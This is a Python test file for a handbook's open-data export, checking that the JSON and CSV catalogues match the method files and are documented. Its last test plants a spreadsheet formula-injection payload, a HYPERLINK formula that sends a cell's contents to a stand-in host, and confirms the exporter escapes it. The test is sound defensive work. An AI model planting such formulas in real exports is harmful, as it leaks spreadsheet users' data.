"""The open-data catalogue says exactly what the method files say."""

from __future__ import annotations

import csv
import datetime
import io
import json

import yaml

from conftest import ROOT
from verktygsladan.content.schema import Method
from verktygsladan.content.vocabulary import VocabularyFile
from verktygsladan.pages.open_data import CSV_COLUMNS, catalogue_csv, catalogue_json, render_open_data_page


def as_json(value):
    """The YAML value as the JSON export writes it (dates as text, text trimmed like the validator)."""
    if isinstance(value, dict):
        return {k: as_json(v) for k, v in value.items() if v not in (None, [])}
    if isinstance(value, list):
        return [as_json(v) for v in value]
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        return value.strip()
    return value


def assert_holds(exported, source, where: str) -> None:
    """Every value in the method file is in the export; the export may add defaults."""
    if isinstance(source, dict):
        for key, value in source.items():
            assert key in exported, f"{where}: {key} saknas"
            assert_holds(exported[key], value, f"{where} → {key}")
    elif isinstance(source, list):
        assert len(exported) == len(source), where
        for index, (left, right) in enumerate(zip(exported, source)):
            assert_holds(left, right, f"{where} → {index + 1}")
    else:
        assert exported == source, where


def test_json_export_matches_every_method_file(handbook):
    catalogue = json.loads(catalogue_json(handbook))
    assert [m["slug"] for m in catalogue["methods"]] == [m.slug for m in handbook.methods]
    for exported in catalogue["methods"]:
        source = yaml.safe_load((ROOT / "methods" / exported["slug"] / "method.yml").read_text(encoding="utf-8"))
        assert_holds(exported, as_json(source), exported["slug"])


def test_json_export_carries_the_vocabulary_names(handbook):
    catalogue = json.loads(catalogue_json(handbook))
    phases = {term["id"]: term["name"] for term in catalogue["vocabulary"]["phases"]}
    assert phases == {k: v.name for k, v in handbook.vocabulary.terms("phases").items()}


def test_csv_export_has_one_row_per_method(handbook):
    rows = list(csv.DictReader(io.StringIO(catalogue_csv(handbook))))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    for row, method in zip(rows, handbook.methods, strict=True):
        assert row["title"] == method.title
        assert row["weeks_min"] == str(method.effort.weeks.min)
        assert row["phases"].split(" | ") == method.phases


def test_export_format_is_documented_for_every_field(handbook):
    page = render_open_data_page(handbook)
    for name in Method.fields:
        assert f"| `{name}` |" in page
    for column in CSV_COLUMNS:
        assert f"`{column}`" in page


def test_the_page_names_every_vocabulary_the_json_file_holds(handbook):
    page = render_open_data_page(handbook)
    data = json.loads(catalogue_json(handbook))
    assert set(data["vocabulary"]) == set(VocabularyFile.fields)
    for field in VocabularyFile.fields.values():
        assert field.label in page


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(corpus_handbook):
    method = corpus_handbook.method("exempel")
    original = method.summary, method.short_title
    try:
        method.summary = '=HYPERLINK("https://annan.example/?"&A1;"Klicka")'
        method.short_title = "@SUM(1+1)"
        row = next(csv.DictReader(io.StringIO(catalogue_csv(corpus_handbook))))
    finally:
        method.summary, method.short_title = original
    assert row["summary"] == '\'=HYPERLINK("https://annan.example/?"&A1;"Klicka")'
    assert row["short_title"] == "'@SUM(1+1)"
    assert row["title"] == method.title  # ordinary text is left as it is
